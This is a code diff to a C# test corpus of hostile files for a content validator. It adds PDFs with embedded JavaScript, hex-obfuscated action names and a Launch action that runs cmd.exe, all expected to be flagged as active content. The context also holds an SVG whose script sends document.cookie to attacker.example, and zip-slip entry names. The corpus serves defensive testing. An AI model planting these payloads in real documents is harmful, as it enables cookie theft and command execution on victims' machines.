@@ -63,6 +63,13 @@ public static class HostileCorpus
         Content("svg-script-declared-as-eml", SvgWithScript(), MediaTypes.Eml, ReasonCodes.Malformed);
         Content("random-declared-as-eml", Random(4096, seed: n), MediaTypes.Eml, ReasonCodes.Malformed);
 
+        // PDFs that would run something when opened.
+        Content("pdf-open-action-javascript", PdfWithCatalogExtras("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
+        Content("pdf-javascript-name-tree", PdfWithCatalogExtras("/Names << /JavaScript 4 0 R >>", "<< /Names [(a) << /S /JavaScript /JS (app.alert\\(1\\)) >>] >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
+        Content("pdf-hex-escaped-javascript", PdfWithCatalogExtras("/OpenAction 4 0 R", "<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
+        Content("pdf-launch-action", PdfWithCatalogExtras("/OpenAction 4 0 R", "<< /S /Launch /F (cmd.exe) >>"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
+        Content("pdf-page-additional-action", PdfWithPageExtras("/AA << /O 4 0 R >>", "<< /S /JavaScript /JS 5 0 R >>", "<< /Length 13 >>\nstream\napp.alert(1);\nendstream"), MediaTypes.Pdf, ReasonCodes.ActiveContent);
+
         // OOXML packages whose entries climb out of the folder they are unpacked into (zip-slip), or disagree.
         Content("docx-zip-slip-dotdot", WithEntry(SampleFiles.Docx(), "../../evil.txt"), MediaTypes.Docx, ReasonCodes.Malformed);
         Content("docx-zip-slip-inner-dotdot", WithEntry(SampleFiles.Docx(), "word/../../evil.txt"), MediaTypes.Docx, ReasonCodes.Malformed);
@@ -197,6 +204,28 @@ public static class HostileCorpus
 
     private static byte[] SvgWithScript() =>
         Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>fetch('https://attacker.example/'+document.cookie)</script></svg>\n");
+
+    /// <summary>A one-page PDF (correct xref) whose catalog carries <paramref name="catalogExtras"/>; object 4 is <paramref name="object4"/>.</summary>
+    private static byte[] PdfWithCatalogExtras(string catalogExtras, string object4) =>
+        PdfBytes.Build(
+        [
+            $"<< /Type /Catalog /Pages 2 0 R {catalogExtras} >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
+            object4,
+        ],
+        string.Empty);
+
+    private static byte[] PdfWithPageExtras(string pageExtras, string object4, string object5) =>
+        PdfBytes.Build(
+        [
+            "<< /Type /Catalog /Pages 2 0 R >>",
+            "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+            $"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {pageExtras} >>",
+            object4,
+            object5,
+        ],
+        string.Empty);
 
     /// <summary>The package with one more entry named <paramref name="name"/>.</summary>
     private static byte[] WithEntry(byte[] package, string name)
